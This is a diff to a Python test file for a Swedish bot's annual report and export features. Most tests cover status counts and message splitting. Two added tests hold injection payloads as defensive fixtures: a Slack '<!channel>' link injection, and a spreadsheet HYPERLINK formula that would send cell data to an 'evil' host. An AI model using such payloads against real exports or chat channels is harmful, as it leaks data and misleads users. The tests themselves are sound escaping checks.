@@ -24,9 +24,9 @@ from bot.cli import main
 from bot.i18n import SV
 from bot.report_chart import report_chart_png
 from bot.reporting import report_json, report_tables
-from commands.render.report import report_text
-from domain.report import PhaseTime, annual_report
-from storage.models import Completion
+from commands.render.report import MAX_COMMENT, report_messages, report_text
+from domain.report import NeedFacts, PhaseTime, annual_report, report_years
+from storage.models import Completion, Need
 from storage.report import report_facts
 from tests.public_support import add_need, move
 
@@ -91,11 +91,11 @@ def test_registered_in_the_year_by_classification(facts):
 
 def test_status_at_year_end(facts):
     report = annual_report(facts, 2026, TZ)
-    assert report.status == {
-        1: {"open": 1, "ej_prioriterat": 0, "aterkallat": 0, "sammanslaget": 0},
-        2: {"open": 0, "ej_prioriterat": 1, "aterkallat": 1, "sammanslaget": 0},
-        3: {"open": 1, "ej_prioriterat": 0, "aterkallat": 0, "sammanslaget": 0},
-        4: {"open": 1, "ej_prioriterat": 0, "aterkallat": 0, "sammanslaget": 0},
+    assert report.status == {  # a need in phase 4 has a completed mission, not an ongoing one
+        1: {"open": 1, "completed": 0, "ej_prioriterat": 0, "aterkallat": 0, "sammanslaget": 0},
+        2: {"open": 0, "completed": 0, "ej_prioriterat": 1, "aterkallat": 1, "sammanslaget": 0},
+        3: {"open": 1, "completed": 0, "ej_prioriterat": 0, "aterkallat": 0, "sammanslaget": 0},
+        4: {"open": 0, "completed": 1, "ej_prioriterat": 0, "aterkallat": 0, "sammanslaget": 0},
     }
     assert report.total_at_year_end == 5
 
@@ -132,10 +132,68 @@ def test_text_summary_and_chart(facts, ref):
     assert "Registrerade behov under året: *4*" in text
     assert "Politiskt uppdrag 1" in text
     assert "2. Ställningstagande och prioritering: 1 ej prioriterat, 1 återkallat" in text
+    assert "3. Genomförande: 1 pågående" in text
+    assert "4. Slutfört uppdrag: 1 slutfört" in text and "pågående\n*Tid i fas" not in text
     assert "median 25 dagar, längst 61 dagar (#4)" in text
     assert "#1 Ett (2026-05-10) – <https://example.org/ett|slutprodukt>" in text
     png = report_chart_png(report, SV)
     assert png.startswith(b"\x89PNG") and len(png) > 10_000
+
+
+def test_the_slack_summary_links_only_real_addresses(facts, ref):
+    tables = report_tables(annual_report(facts, 2026, TZ), ref, SV)
+    completed = next(t for t in tables if t.name == "completed")
+    assert "<https://example.org/ett|slutprodukt>" in report_text(tables, SV, 2026)
+    completed.rows[0][3] = "https://x.se/><!channel>"  # stored before the form checked links
+    text = report_text(tables, SV, 2026)
+    assert "<!channel>" not in text and "https://x.se/&gt;&lt;!channel&gt;" in text
+
+
+def completed_facts(count: int) -> list[NeedFacts]:
+    """Needs completed in 2026 with 150-character titles and links full of `&` and `<`."""
+    return [
+        NeedFacts(
+            number=n,
+            title=(f"Uppdrag {n} " + "&<" * 80)[:150],
+            origin=None,
+            perspective=None,
+            target_groups=[],
+            level=None,
+            submitted_at=at(2025, 3, 1),
+            phase=4,
+            phase_entered_at=at(2026, 3, 1),
+            completed_at=at(2026, 3, 1, 10, n),
+            product_url=f"https://example.org/p?a=1&b=2&n={n}" + "&x" * 200,
+        )
+        for n in range(1, count + 1)
+    ]
+
+
+def test_many_completed_missions_go_whole_over_several_messages(ref):
+    report = annual_report(completed_facts(40), 2026, TZ)
+    text = report_text(report_tables(report, ref, SV), SV, 2026)
+    messages = report_messages(text, SV, 2026)
+    assert len(messages) > 1 and all(len(m) <= MAX_COMMENT for m in messages)
+    assert messages[0].startswith("*Årsrapport 2026: utvecklingsbehov på länsnivå*")
+    parts = len(messages)
+    for number, message in enumerate(messages[1:], 2):
+        assert message.startswith(f"*Årsrapport 2026, del {number} av {parts}*\n")
+    bodies = [messages[0]] + [m.split("\n", 1)[1] for m in messages[1:]]
+    lines = "\n".join(bodies).split("\n")
+    assert lines == text.split("\n")  # every line, whole and in order: no link or `&amp;` cut
+    missions = [line for line in lines if line.startswith("• #")]
+    assert len(missions) == 40 and all(line.endswith("|slutprodukt>") for line in missions)
+    assert "…" not in text
+
+
+def test_a_short_report_is_one_message(facts, ref):
+    text = report_text(report_tables(annual_report(facts, 2026, TZ), ref, SV), SV, 2026)
+    assert report_messages(text, SV, 2026) == [text]
+
+
+def test_the_years_a_report_can_be_made_for():
+    assert report_years(2026) == range(2000, 2027)
+    assert 1999 not in report_years(2026) and 2027 not in report_years(2026)
 
 
 def test_json_is_keyed(facts):
@@ -145,6 +203,8 @@ def test_json_is_keyed(facts):
     ]  # fmt: skip
     assert data["time_in_phase"][1]["median_days"] == 25.0
     assert data["completed_missions"][0]["completed_on"] == "2026-05-10"
+    assert data["status_at_year_end"][3] == {"phase": 4, "open": 0, "completed": 1,
+        "ej_prioriterat": 0, "aterkallat": 0, "sammanslaget": 0}  # fmt: skip
 
 
 @pytest.mark.parametrize("fmt", ["json", "csv", "xlsx"])
@@ -162,6 +222,7 @@ def test_behov_export_writes_the_report(facts, database_url, tmp_path, monkeypat
         phase2 = "2. Ställningstagande och prioritering"
         assert ["phase_time", phase2, "4", "25.0", "61.0", "#4"] in rows
         assert ["completed", "#1", "Ett", "2026-05-10", "https://example.org/ett"] in rows
+        assert ["status", "4. Slutfört uppdrag", "0", "1", "0", "0", "0", "1"] in rows
     else:
         book = load_workbook(out)
         assert book.sheetnames == [
@@ -170,9 +231,37 @@ def test_behov_export_writes_the_report(facts, database_url, tmp_path, monkeypat
         ]  # fmt: skip
         status = book["Läget vid årets slut"]
         phase2 = "2. Ställningstagande och prioritering"
-        assert [c.value for c in status[3]] == [phase2, 0, 1, 1, 0, 2]
+        assert [c.value for c in status[1]][1:3] == ["Pågående", "Slutfört"]
+        assert [c.value for c in status[3]] == [phase2, 0, 0, 1, 1, 0, 2]
+        assert [c.value for c in status[5]] == ["4. Slutfört uppdrag", 0, 1, 0, 0, 0, 1]
         assert len(status._charts) == 1
         assert book["Slutförda uppdrag"]["D2"].value == "https://example.org/ett"
+
+
+FORMULA = '=HYPERLINK("https://evil"&A1,"Klicka här")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_title_written_as_a_formula_is_exported_as_text(
+    facts, db, database_url, tmp_path, monkeypatch, fmt
+):
+    with db.session(write=True) as s:
+        s.get(Need, 1).title = FORMULA  # #1 is completed in 2026: its title is in the export
+    monkeypatch.setenv("DATABASE_URL", database_url)
+    monkeypatch.setenv("BEHOV_AUTO_MIGRATE", "0")
+    out = tmp_path / f"rapport.{fmt}"
+    assert main(["export", "--format", fmt, "--out", str(out), "--year", "2026"]) == 0
+    if fmt == "csv":
+        rows = list(csv.reader(out.open(encoding="utf-8")))
+        assert ["completed", "#1", "'" + FORMULA, "2026-05-10", "https://example.org/ett"] in rows
+        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@"))]
+        return
+    book = load_workbook(out)
+    title = book["Slutförda uppdrag"]["B2"]
+    assert (title.value, title.data_type) == ("'" + FORMULA, "s")
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}
 
 
 def test_export_rejects_an_unknown_format(tmp_path):
